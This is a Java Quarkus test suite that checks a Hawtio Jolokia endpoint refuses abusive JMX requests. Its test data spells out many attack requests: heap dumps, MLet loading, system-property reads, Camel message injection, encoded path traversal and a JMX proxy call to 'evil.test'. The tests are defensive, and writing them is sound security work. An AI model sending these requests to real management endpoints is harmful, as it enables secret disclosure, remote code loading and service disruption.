package hawtio;

import static hawtio.HawtioClient.JSON;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.in;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.camel.CamelContext;
import org.apache.camel.ServiceStatus;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import startup.TestDatabase;

/** What Hawtio's Jolokia lets nobody do, however it is spelled, and what it lets viewers and operators do. */
@QuarkusTest
@WithTestResource(TestDatabase.class)
@WithTestResource(HawtioWorld.class)
class JolokiaAbuseTest {

    private static final String CONTEXT = "org.apache.camel:context=agentl2,type=context,name=\\\"agentl2\\\"";
    private static final String ROUTE = "org.apache.camel:context=agentl2,type=routes,name=\\\"report-health\\\"";
    private static final String TRACER = "org.apache.camel:context=agentl2,type=tracer,name=BacklogTracer";
    private static final String PROBE = "report-health";
    private static final Path DUMP = Path.of("target", "abuse.hprof");

    private static HawtioClient viewer;
    private static HawtioClient operator;

    @Inject
    CamelContext camel;

    @BeforeEach
    void signIn() throws Exception {
        if (viewer == null || viewer.get("/hawtio/user").statusCode() != 200) {
            viewer = HawtioClient.withPassword(HawtioWorld.VIEWER);
            operator = HawtioClient.withPassword(HawtioWorld.OPERATOR);
        }
    }

    @AfterEach
    void nothingHappened() {
        assertEquals(ServiceStatus.Started, camel.getRouteController().getRouteStatus(PROBE));
        assertTrue(camel.isStarted());
        assertFalse(Files.exists(DUMP));
    }

    static Stream<String> forEverybody() {
        List<String> spellings = new ArrayList<>();
        for (String operation : List.of(
                "sendBody(java.lang.String,java.lang.Object)",
                "sendBody",
                "sendStringBody(java.lang.String, java.lang.String)",
                "sendBodyAndHeaders(java.lang.String, java.lang.Object, java.util.Map)",
                "requestBody(java.lang.String,java.lang.Object)",
                "requestStringBody",
                "requestBodyAndHeaders",
                "canSendToEndpoint(java.lang.String)",
                "createEndpoint(java.lang.String)",
                "createEndpoint",
                "removeEndpoints(java.lang.String)",
                "setGlobalOption(java.lang.String,java.lang.String)",
                "getGlobalOption(java.lang.String)",
                "setTracing(java.lang.Boolean)",
                "stop()",
                "suspend()",
                "restart()",
                "startAllRoutes()",
                "sendBody()",
                "SENDBODY(java.lang.String,java.lang.Object)",
                " sendBody(java.lang.String,java.lang.Object)",
                "sendBody(java.lang.String,java.lang.Object)/",
                "reset/sendBody",
                "reset()sendBody",
                "dumpRoutesAsXml()/../sendBody",
                "%73endBody(java.lang.String,java.lang.Object)",
                "send\\u0042ody(java.lang.String,java.lang.Object)",
                "*",
                "",
                "send*")) {
            spellings.add(exec(CONTEXT, operation, "\"direct:report-health\",\"x\""));
        }
        for (String operation : List.of(
                "remove()",
                "remove",
                "updateRouteFromXml(java.lang.String)",
                "updateRouteFromXml",
                "addOrUpdateRoutesFromXml",
                "stopAndFail()",
                "setTracing(java.lang.Boolean)",
                "setStatisticsEnabled(boolean)",
                "getRouteProperties()")) {
            spellings.add(exec(ROUTE, operation, "\"<route/>\""));
        }
        spellings.addAll(List.of(
                // Placeholders' values.
                exec(CONTEXT, "dumpRoutesAsXml(boolean)", "true"),
                exec(CONTEXT, "dumpRoutesAsXml(boolean)", "\"TRUE\""),
                exec(CONTEXT, "dumpRoutesAsYaml(boolean,boolean)", "true,false"),
                exec(ROUTE, "dumpRouteAsXml(boolean)", "true"),
                exec(ROUTE, "dumpRouteAsXml(boolean)", "1"),
                // Camel's other beans.
                exec("org.apache.camel:context=agentl2,type=processors,name=\\\"x\\\"", "disable()", ""),
                exec(TRACER, "setTraceFilter(java.lang.String)", "\"groovy:1\""),
                write(TRACER, "BodyIncludeFiles", "true"),
                write(TRACER, "BodyIncludeStreams", "\"TRUE\""),
                write(TRACER, "BodyMaxChars", "-1"),
                write(TRACER, "BodyMaxChars", "0"),
                write(TRACER, "BodyMaxChars", "\"0000\""),
                exec("org.apache.camel:context=agentl2,type=services,name=GlobalVariableRepository", "variables()", ""),
                exec(
                        "org.apache.camel:context=agentl2,type=services,name=DefaultAsyncProcessorAwaitManager",
                        "interrupt",
                        "\"x\""),
                exec(
                        "org.apache.camel:context=agentl2,type=endpoints,name=\\\"seda://x\\\"",
                        "browseAllMessagesAsXml",
                        "true"),
                exec("org.apache.camel:context=agentl2,type=health,name=DefaultHealthCheckRegistry", "invoke", "\"x\""),
                // By wildcards.
                exec("org.apache.camel:*", "stop()", ""),
                exec("org.apache.camel:type=routes,*", "stop()", ""),
                exec("*:type=context,*", "sendBody", "\"direct:report-health\",\"x\""),
                exec("org.apache.camel:context=*,type=routes,name=\\\"report-health\\\"", "stop()", ""),
                "{\"type\":\"read\",\"mbean\":\"*:*\"}",
                "{\"type\":\"read\",\"mbean\":\"\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=*\",\"attribute\":\"SystemProperties\"}",
                // The virtual machine.
                exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "\"target/abuse.hprof\",true"),
                exec(
                        "com.sun.management:type=HotSpotDiagnostic",
                        "setVMOption",
                        "\"HeapDumpOnOutOfMemoryError\",\"true\""),
                exec("com.sun.management:type=DiagnosticCommand", "vmSystemProperties", ""),
                exec("com.sun.management:type=DiagnosticCommand", "help", "[]"),
                exec("com.sun.management:type=*", "dumpHeap", "\"target/abuse.hprof\",true"),
                exec("JMImplementation:type=MBeanServerDelegate", "createMBean", "\"javax.management.loading.MLet\""),
                exec("java.util.logging:type=Logging", "setLoggerLevel", "\"\",\"ALL\""),
                exec("java.lang:type=Memory", "gc", ""),
                exec("jdk.management.jfr:type=FlightRecorder", "newRecording", ""),
                exec("jolokia:type=ServerHandler,agent=agentl2", "mBeanServersInfo", ""),
                exec("jolokia:type=Config,agent=agentl2", "setDebug", "true"),
                "{\"type\":\"read\",\"mbean\":\"com.sun.management:type=HotSpotDiagnostic\",\"attribute\":\"DiagnosticOptions\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"SystemProperties\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"InputArguments\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"ClassPath\"}",
                "{\"type\":\"READ\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"SystemProperties\",\"path\":\"java.home\"}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:name=x,type=Runtime\",\"attribute\":\"SystemProperties\"}",
                "{\"type\":\"read\",\"mbean\":\"" + CONTEXT + "\",\"attribute\":\"GlobalOptions\"}",
                "{\"type\":\"read\",\"mbean\":\"java.util.logging:type=Logging\",\"attribute\":\"LoggerNames\"}",
                // Another way to the same place.
                "{\"type\":\"read\",\"mbean\":\"jmx@java.lang:type=Runtime\",\"attribute\":\"SystemProperties\"}",
                "{\"type\":\"exec\",\"mbean\":\"proxy@" + ROUTE + "\",\"operation\":\"start()\"}",
                // Writes.
                write(CONTEXT, "Tracing", "true"),
                write(CONTEXT, "Timeout", "1"),
                write(ROUTE, "StatisticsEnabled", "false"),
                write(TRACER, "TraceFilter", "\"simple:${body}\""),
                write(TRACER, "BodyMaxChars", "1000000"),
                write(TRACER, "enabled", "true"),
                write(TRACER, "Enabled ", "true"),
                write("org.apache.camel:type=tracer,name=BacklogTracer,*", "Enabled", "true"),
                write("java.lang:type=Memory", "Verbose", "true"),
                write("java.lang:type=Threading", "ThreadContentionMonitoringEnabled", "true"),
                // Kinds of requests that nobody needs.
                "{\"type\":\"notification\",\"command\":\"register\"}",
                "{\"type\":\"notification\"}",
                "{\"type\":\"config\"}"));
        return spellings.stream();
    }

    @ParameterizedTest
    @MethodSource("forEverybody")
    void isRefusedToEverybody(String request) throws Exception {
        for (HawtioClient client : List.of(viewer, operator)) {
            requireRefused(client, request);
            requireRefused(client, "[" + request + "]");
            // Among what is allowed.
            JsonNode bulk = client.ask("[{\"type\":\"version\"}," + request + ",{\"type\":\"version\"}]");
            if (bulk.isArray()) {
                assertEquals(200, bulk.get(0).path("status").asInt());
                assertThat(bulk.get(1).path("status").asInt(), in(Set.of(400, 403)));
                assertTrue(
                        bulk.get(1).path("value").isMissingNode(), bulk.get(1).toString());
            }
        }
    }

    static Stream<String> changes() {
        return Stream.of(
                exec(ROUTE, "stop()", ""),
                exec(ROUTE, "stop", ""),
                exec(ROUTE, "stop(long)", "1"),
                exec(ROUTE, "start()", ""),
                exec(ROUTE, "restart()", ""),
                exec(ROUTE, "suspend()", ""),
                exec(ROUTE, "resume()", ""),
                exec(ROUTE, "reset()", ""),
                exec(CONTEXT, "reset(boolean)", "true"),
                exec(TRACER, "clear()", ""),
                exec(TRACER, "setEnabled(boolean)", "true"),
                exec(TRACER, "setEnabled", "true"),
                exec("org.apache.camel:name=\\\"report-health\\\",type=routes,context=agentl2", "stop()", ""),
                write(TRACER, "Enabled", "true"));
    }

    @ParameterizedTest
    @MethodSource("changes")
    void isRefusedToViewers(String request) throws Exception {
        requireRefused(viewer, request);
        requireRefused(viewer, "[" + request + "]");
        assertEquals("false", read(operator, TRACER, "Enabled"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/hawtio/jolokia/exec/org.apache.camel:context=agentl2,type=routes,name=!%22report-health!%22/stop()",
                "/hawtio/jolokia/exec/org.apache.camel%3Acontext%3Dagentl2%2Ctype%3Droutes%2Cname%3D%22report-health%22/stop",
                "/hawtio/jolokia/read/java.lang:type=Runtime/SystemProperties",
                "/hawtio/jolokia/read/java.lang:type=Runtime/System%50roperties",
                "/hawtio/jolokia/read/java.lang:type=Runtime/!/SystemProperties",
                "/hawtio/jolokia//read/java.lang:type=Runtime/SystemProperties",
                "/hawtio/jolokia/%2fread%2fjava.lang:type=Runtime%2fSystemProperties",
                "/hawtio/jolokia/version/../read/java.lang:type=Runtime/SystemProperties",
                "/hawtio/jolokia;p=read/java.lang:type=Runtime/SystemProperties",
                "/hawtio/jolokia/list",
                "/hawtio/jolokia/search/*:*",
                "/hawtio/jolokia/write/java.lang:type=Memory/Verbose/true",
                "/hawtio/jolokia/notification/register",
                "/hawtio/JOLOKIA/list",
            })
    void noAddressAsksForAnything(String path) throws Exception {
        for (HawtioClient client : List.of(viewer, operator)) {
            HttpResponse<String> answer = client.get(path);
            boolean page = answer.statusCode() == 200 && answer.body().startsWith("<!doctype html>");
            assertTrue(answer.statusCode() == 404 || page, path + " answered " + answer.statusCode() + answer.body());
            assertThat(client.post(path, "{\"type\":\"version\"}").statusCode(), in(Set.of(404, 405)));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "?p=read/java.lang:type=Runtime/SystemProperties",
                "?p=/exec/java.lang:type=Memory/gc",
                "?%70=list",
                "?callback=alert",
                "?type=exec&mbean=java.lang:type=Memory&operation=gc",
                "?includeStackTrace=true&serializeException=true",
            })
    void theQueryOfAnAddressAsksForNothing(String query) throws Exception {
        JsonNode answer = JSON.readTree(operator.get("/hawtio/jolokia" + query).body());
        assertEquals("version", answer.path("request").path("type").asText());
        HttpResponse<String> posted =
                operator.post("/hawtio/jolokia/" + query, exec(CONTEXT, "sendBody", "\"x\",\"y\""));
        assertEquals(403, JSON.readTree(posted.body()).path("status").asInt());
        assertFalse(posted.body().contains("stacktrace"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "null",
                "1",
                "\"exec\"",
                "[1]",
                "[[{\"type\":\"version\"}]]",
                "{",
                "{}",
                "{\"type\":null}",
                "{\"type\":[\"exec\"]}",
                "{\"type\":\"unknown\"}",
                "{\"type\":\"read\"}",
                "{\"type\":\"read\",\"mbean\":{}}",
                "{\"type\":\"read\",\"mbean\":\"no-name\"}",
                "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\"}",
                "{\"type\":\"version\"}{\"type\":\"version\"}",
                "{\"type\":\"version\",\"type\":\"exec\"}",
                "{\"type\":\"version\",\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://evil.test/x\"}}",
                "{\"type\":\"version\",\"options\":{\"target\":{}}}",
                "{\"type\":\"version\",\"extra\":1}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"path\":{}}",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"config\":{\"maxDepth\":\"x\"}}",
            })
    void whatIsNoRequestIsTold(String body) throws Exception {
        HttpResponse<String> answer = operator.post("/hawtio/jolokia/", body);
        assertEquals(400, answer.statusCode(), answer.body());
        assertFalse(answer.body().contains("Exception"), answer.body());
    }

    @Test
    void hugeRequestsAreRefused() throws Exception {
        String many = "[" + "{\"type\":\"version\"},".repeat(500) + "{\"type\":\"version\"}]";
        assertEquals(413, operator.post("/hawtio/jolokia/", many).statusCode());
        String deep = "{\"type\":\"exec\",\"arguments\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}";
        assertEquals(400, operator.post("/hawtio/jolokia/", deep).statusCode());
        String long_ = "{\"type\":\"version\",\"path\":\"" + "x".repeat(1_100_000) + "\"}";
        assertEquals(413, operator.post("/hawtio/jolokia/", long_).statusCode());
        for (String method : List.of("PUT", "DELETE", "PATCH", "TRACE")) {
            assertThat(
                    operator.send(operator.request("/hawtio/jolokia/")
                                    .header("Origin", HawtioClient.origin())
                                    .method(method, BodyPublishers.ofString("{\"type\":\"version\"}")))
                            .statusCode(),
                    in(Set.of(403, 405)));
        }
    }

    @Test
    void aListWithAPartThatNobodyCanReadDoesNothing() throws Exception {
        String stop = exec(ROUTE, "stop()", "");
        assertEquals(
                400,
                operator.post("/hawtio/jolokia", "[" + stop + ",{\"type\":\"x\"}]")
                        .statusCode());
        assertEquals(
                400,
                operator.post("/hawtio/jolokia", "[" + String.join(",", Collections.nCopies(11, stop)) + "]")
                        .statusCode());
        assertEquals(
                "Started",
                operator.ask("{\"type\":\"read\",\"mbean\":\"" + ROUTE + "\",\"attribute\":\"State\"}")
                        .path("value")
                        .asText());
    }

    /** A list of lists would be gigabytes. */
    @Test
    void whatIsAskedForAtOnceHasABound() throws Exception {
        String all = "{\"type\":\"list\"}";
        assertEquals(
                413,
                viewer.post("/hawtio/jolokia", "[" + String.join(",", Collections.nCopies(20, all)) + "]")
                        .statusCode());
    }

    @Test
    void allAttributesOfABeanAreThoseThatMayBeRead() throws Exception {
        JsonNode runtime = viewer.ask(
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"config\":{\"ignoreErrors\":true}}");
        assertNotNull(runtime.path("value").get("Uptime"));
        for (String hidden : List.of("SystemProperties", "InputArguments", "ClassPath", "Name")) {
            assertThat(runtime.path("value").path(hidden).toString(), containsString("forbidden"));
        }
        assertFalse(runtime.toString().contains(System.getProperty("java.home")));
        String context = viewer.ask("{\"type\":\"read\",\"mbean\":\"" + CONTEXT
                        + "\",\"attribute\":[\"CamelId\",\"GlobalOptions\"]," + "\"config\":{\"ignoreErrors\":true}}")
                .toString();
        assertThat(context, containsString("forbidden"));
        assertEquals(
                403,
                viewer.ask("{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\"}")
                        .path("status")
                        .asInt());
    }

    @Test
    void listsNameOnlyWhatMayBeSeen() throws Exception {
        JsonNode list = viewer.ask("{\"type\":\"list\"}").path("value");
        assertTrue(list.path("org.apache.camel").size() > 100, "Camel's beans");
        assertEquals(4, list.path("org.agentl2").size(), "the runtime's own");
        for (String domain : List.of(
                "com.sun.management", "java.util.logging", "JMImplementation", "jolokia", "jdk.management.jfr")) {
            assertTrue(list.path(domain).isMissingNode() || list.path(domain).isEmpty(), domain);
        }
        JsonNode found = viewer.ask("{\"type\":\"search\",\"mbean\":\"*:*\"}").path("value");
        assertTrue(found.size() > 100);
        found.forEach(name -> assertTrue(
                name.asText().matches("(org\\.apache\\.camel|org\\.agentl2|java\\.lang|java\\.nio):.*"),
                name.asText()));
    }

    @Test
    void aViewerSees() throws Exception {
        for (String request : List.of(
                exec(CONTEXT, "dumpRoutesAsXml()", ""),
                exec(CONTEXT, "dumpRoutesAsXml(boolean)", "false"),
                exec(CONTEXT, "dumpRoutesStatsAsXml(boolean,boolean)", "true,true"),
                exec(ROUTE, "dumpRouteAsXml()", ""),
                exec(ROUTE, "isUpdateRouteEnabled()", ""),
                exec(TRACER, "dumpAllTracedMessagesAsXml()", ""),
                exec("org.apache.camel:context=agentl2,type=services,name=DefaultInflightRepository", "browse()", ""),
                exec("java.lang:type=Threading", "dumpAllThreads(boolean,boolean)", "false,false"),
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\"}",
                "{\"type\":\"read\",\"mbean\":\"org.agentl2:type=runtime,name=Signers\"}",
                "{\"type\":\"read\",\"mbean\":\"org.agentl2:type=runtime,name=Health\",\"attribute\":\"Status\"}",
                "{\"type\":\"read\",\"mbean\":\"org.agentl2:type=runtime,name=Queue\",\"attribute\":\"Waiting\"}",
                "{\"type\":\"read\",\"mbean\":\"" + ROUTE + "\",\"attribute\":\"ExchangesTotal\"}")) {
            JsonNode answer = viewer.ask(request);
            assertEquals(200, answer.path("status").asInt(), request + " " + answer.path("error"));
        }
    }

    @Test
    void anOperatorStopsAndStartsARouteAndItIsWrittenDown() throws Exception {
        assertEquals(200, operator.ask(exec(ROUTE, "stop()", "")).path("status").asInt());
        assertEquals(ServiceStatus.Stopped, camel.getRouteController().getRouteStatus(PROBE));
        assertEquals(
                200, operator.ask(exec(ROUTE, "start()", "")).path("status").asInt());
        assertEquals(
                200,
                operator.ask(exec(CONTEXT, "reset(boolean)", "true"))
                        .path("status")
                        .asInt());
        assertEquals(
                200,
                operator.ask(write(TRACER, "Enabled", "true")).path("status").asInt());
        assertEquals("true", read(viewer, TRACER, "Enabled"));
        assertEquals(
                200,
                operator.ask(write(TRACER, "Enabled", "false")).path("status").asInt());
        requireRefused(viewer, exec(ROUTE, "stop()", ""));
        JsonNode entries = JSON.readTree(RestAssured.given()
                        .header("X-Forwarded-For", "198.18.9.9")
                        .get("/api/audit?operation=operate-hawtio&limit=6")
                        .asString())
                .path("entries");
        List<String> lines = new ArrayList<>();
        entries.forEach(one -> lines.add(
                one.path("status").asInt() + " " + one.path("operator").asBoolean() + " "
                        + one.path("subject").asText().replaceFirst("request (.*) of .*type=(\\w+)$", "$1 $2")));
        assertEquals(
                List.of(
                        "403 false stop() routes",
                        "200 true Enabled = false tracer",
                        "200 true Enabled = true tracer",
                        "200 true reset(boolean) context",
                        "200 true start() routes",
                        "200 true stop() routes"),
                lines);
    }

    private static void requireRefused(HawtioClient client, String request) throws Exception {
        HttpResponse<String> sent = client.post("/hawtio/jolokia/", request);
        JsonNode answer = JSON.readTree(sent.body());
        JsonNode one = answer.isArray() ? answer.get(0) : answer;
        assertThat(request + " -> " + sent.body(), one.path("status").asInt(), in(Set.of(400, 403)));
        assertTrue(one.path("value").isMissingNode(), sent.body());
        assertFalse(sent.body().contains("stacktrace"), sent.body());
    }

    private static String read(HawtioClient client, String bean, String attribute) throws Exception {
        return client.ask("{\"type\":\"read\",\"mbean\":\"" + bean + "\",\"attribute\":\"" + attribute + "\"}")
                .path("value")
                .asText();
    }

    private static String exec(String bean, String operation, String arguments) {
        return "{\"type\":\"exec\",\"mbean\":\"" + bean + "\",\"operation\":\"" + operation + "\",\"arguments\":["
                + arguments + "]}";
    }

    private static String write(String bean, String attribute, String value) {
        return "{\"type\":\"write\",\"mbean\":\"" + bean + "\",\"attribute\":\"" + attribute + "\",\"value\":" + value
                + "}";
    }
}
